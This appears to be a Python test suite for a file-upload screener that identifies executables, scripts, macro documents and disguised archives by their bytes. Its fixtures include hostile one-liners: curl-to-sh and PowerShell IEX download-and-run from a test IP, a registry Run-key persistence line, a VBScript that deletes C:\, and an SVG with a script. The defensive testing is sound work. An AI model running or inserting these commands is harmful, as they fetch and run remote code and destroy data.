"""What a file is, by its bytes: real files built here, judged whatever their names and declared types say.

The samples are real files of each kind (a PE header, an ELF header, a PNG
with valid chunks, OOXML zips with and without vbaProject.bin...), built in
memory; the other suites of upload_file use them too.
"""

from __future__ import annotations

import codecs
import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.base import ContentFile

from integrations.files import screen, sniff, type_allowed

ALLOWED = ["application/pdf", "image/*", "text/plain", "text/csv", "application/vnd.openxmlformats-officedocument.*"]


def windows_exe() -> bytes:
    """A DOS stub whose e_lfanew points at a PE signature, as every .exe starts."""
    dos = bytearray(b"MZ" + bytes(62))
    dos[0x3C:0x40] = (64).to_bytes(4, "little")
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + bytes(300)


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)


def png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xff\x80\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


PDF = (
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
CSV = b"order,customer,amount\n1234,Acme Ltd,120.50\n1235,Globex,75.00\n1236,Initech,12.00\n"
TEXT = b"Hello,\n\nplease find the notes from Tuesday's call below.\n\nRegards, Dana\n"
SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body>Pay here</body></html>\n"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/admin/').then(r => r.text())</script><rect width='10' height='10'/></svg>\n"
)
BATCH = b"@echo off\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d evil.exe\r\n"
POWERSHELL = b"$c = New-Object Net.WebClient\r\nIEX ($c.DownloadString('http://203.0.113.9/p.ps1'))\r\n"
VBSCRIPT = b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "cmd /c del /q C:\\*"\r\n'

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def zipped(*entries: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(*extra: tuple[str, bytes]) -> bytes:
    return zipped(
        ("[Content_Types].xml", _CONTENT_TYPES),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", b"<w:document><w:body>Contract</w:body></w:document>"),
        *extra,
    )


def docm() -> bytes:
    """A Word document with a VBA project: what a .docm is, whatever it is called."""
    return docx(("word/vbaProject.bin", ole_file("_VBA_PROJECT")))


def ole_file(stream: str, class_id: bytes = bytes(16)) -> bytes:
    """A compound file (legacy Office, MSI): a header, and a directory naming the root and one stream."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[26:28] = (3).to_bytes(2, "little")  # major version 3: 512-byte sectors
    header[28:30] = b"\xfe\xff"
    header[30:32] = (9).to_bytes(2, "little")
    header[48:52] = (0).to_bytes(4, "little")  # the directory starts at sector 0
    directory = bytearray(512)
    for index, name in enumerate(("Root Entry", stream)):
        entry = 128 * index
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory[entry : entry + len(encoded)] = encoded
        directory[entry + 0x40 : entry + 0x42] = len(encoded).to_bytes(2, "little")
    directory[0x50:0x60] = class_id
    return bytes(header + directory)


MSI_CLASS_ID = bytes.fromhex("84100c0000000000c000000000000046")


@pytest.mark.parametrize(
    ("content", "mime", "danger"),
    [
        pytest.param(windows_exe(), "application/x-msdownload", "Windows executable", id="exe"),
        pytest.param(elf(), "application/x-executable", "ELF", id="elf"),
        pytest.param(
            b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64), "application/x-mach-binary", "Mach-O", id="macho"
        ),
        pytest.param(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64), "application/java-vm", "Java class", id="class"),
        pytest.param(SCRIPT, "text/x-script", "script for /bin/sh", id="shebang"),
        pytest.param(HTML, "text/html", "HTML page", id="html"),
        pytest.param(SVG, "image/svg+xml", "SVG image with a <script> element", id="svg"),
        pytest.param(BATCH, "text/x-script", "batch script", id="bat"),
        pytest.param(POWERSHELL, "text/x-script", "PowerShell script", id="ps1"),
        pytest.param(VBSCRIPT, "text/x-script", "Windows Script Host", id="vbs"),
        pytest.param(docm(), "application/vnd.ms-office.macroEnabled", "vbaProject.bin", id="docm"),
        pytest.param(ole_file("Macros"), "application/x-ole-storage", "with macros", id="doc-with-macros"),
        pytest.param(ole_file("Property", MSI_CLASS_ID), "application/x-msi", "Windows Installer", id="msi"),
        pytest.param(zipped(("META-INF/MANIFEST.MF", b"Main-Class: x\n")), "application/java-archive", "JAR", id="jar"),
        pytest.param(zipped(("invoice.pdf.exe", windows_exe())), "application/zip", "invoice.pdf.exe", id="zip+exe"),
        pytest.param(zipped(("readme", elf())), "application/zip", "readme (a Linux/Unix executable", id="zip+elf"),
        pytest.param(zipped(("inner.zip", zipped(("run.sh", SCRIPT)))), "application/zip", "inner.zip", id="zip+zip"),
        pytest.param(zipped(("Invoice.js", b"var x = 1;\n")), "application/zip", "Invoice.js (a script)", id="zip+js"),
        pytest.param(
            codecs.BOM_UTF16_LE + "#!/usr/bin/env python\n".encode("utf-16-le"), "text/x-script", "#!", id="utf16"
        ),
    ],
)
def test_dangerous_bytes_are_recognised(content, mime, danger):
    found = sniff(io.BytesIO(content))
    assert (found.mime, danger in found.danger) == (mime, True), found


@pytest.mark.parametrize(
    ("content", "mime"),
    [
        pytest.param(PDF, "application/pdf", id="pdf"),
        pytest.param(b"\r\n" + PDF, "application/pdf", id="pdf-after-junk"),
        pytest.param(png(), "image/png", id="png"),
        pytest.param(CSV, "text/csv", id="csv"),
        pytest.param(TEXT, "text/plain", id="text"),
        pytest.param("Grüße aus Köln\n".encode("latin-1"), "text/plain", id="latin-1-text"),
        pytest.param(docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", id="docx"),
        # Word keeps icons as SVG parts: inside a document they are no page a browser opens.
        pytest.param(
            docx(("word/media/image1.svg", SVG)),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            id="docx-with-svg-icon",
        ),
        pytest.param(zipped(("notes.txt", TEXT)), "application/zip", id="zip"),
        pytest.param(ole_file("WordDocument"), "application/msword", id="doc"),
        pytest.param(bytes(range(256)) * 4, "application/octet-stream", id="unknown"),
    ],
)
def test_harmless_bytes_are_named_for_what_they_are(content, mime):
    found = sniff(io.BytesIO(content))
    assert (found.mime, found.danger) == (mime, "")


def judge(name: str, content: bytes, declared: str = "application/octet-stream", allowed=ALLOWED) -> str:
    return screen(name, declared, ContentFile(content, name=name), max_bytes=1024 * 1024, allowed=allowed).refusal


def test_an_exe_renamed_report_pdf_is_refused_as_an_executable():
    why = judge("report.pdf", windows_exe(), "application/pdf")
    assert why == "report.pdf is a Windows executable (MZ/PE header), which is never uploaded"


def test_a_pdf_named_txt_is_judged_as_a_pdf():
    assert judge("notes.txt", PDF, allowed=["text/plain"]) == (
        "notes.txt is a PDF document (application/pdf), which is not allowed for upload"
    )
    assert (
        judge("notes.txt", PDF)
        == "notes.txt is a PDF document (application/pdf), not the text/plain its name (.txt) says"
    )


def test_a_pdf_that_is_a_zip_is_refused_for_what_it_really_is():
    why = judge("report.pdf", zipped(("notes.txt", TEXT)), "application/pdf", allowed=[*ALLOWED, "application/zip"])
    assert why == "report.pdf is a ZIP archive (application/zip), not the application/pdf its name (.pdf) says"


def test_a_declared_type_that_contradicts_the_bytes_is_refused():
    assert (
        judge("scan", png(), "application/pdf")
        == "scan is a PNG image (image/png), not the application/pdf it was sent as"
    )


def test_a_script_extension_is_refused_even_when_the_bytes_are_plain_text():
    why = judge("cleanup.bat", b"del old-reports\r\n", "text/plain")
    assert (
        why
        == "cleanup.bat is named as a Windows batch script (.bat), which is never uploaded; its bytes are plain text"
    )


@pytest.mark.parametrize(
    ("name", "content", "declared"),
    [
        ("orders.csv", CSV, "text/csv"),
        ("orders.csv", CSV, "application/vnd.ms-excel"),  # what Windows mail clients send for CSV
        ("orders.txt", CSV, "text/plain"),
        ("photo.png", png(), "image/png"),
        ("photo.jpg", png(), "image/jpeg"),  # an image renamed to another image format is no disguise
        ("contract.pdf", PDF, "application/x-pdf"),
        ("contract.docx", docx(), "application/zip"),
        ("notes", TEXT, ""),
    ],
)
def test_harmless_files_whose_names_agree_are_accepted(name, content, declared):
    assert judge(name, content, declared) == ""


def test_the_allowed_types_are_judged_by_the_bytes():
    assert judge("table.xls", ole_file("Workbook"), "application/vnd.ms-excel") == (
        "table.xls is an Excel 97-2003 workbook (application/vnd.ms-excel), which is not allowed for upload"
    )
    assert judge("table.xls", ole_file("Workbook"), allowed=["application/vnd.ms-excel"]) == ""


@pytest.mark.parametrize(
    ("content_type", "allowed"),
    [
        ("application/pdf", True),
        ("IMAGE/PNG", True),
        ("text/plain; charset=utf-8", True),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", True),
        ("application/vnd.ms-excel", False),
        ("text/html", False),
        ("imagex/png", False),
    ],
)
def test_allowed_types_are_exact_or_wildcards(content_type, allowed):
    assert type_allowed(content_type, ALLOWED) is allowed
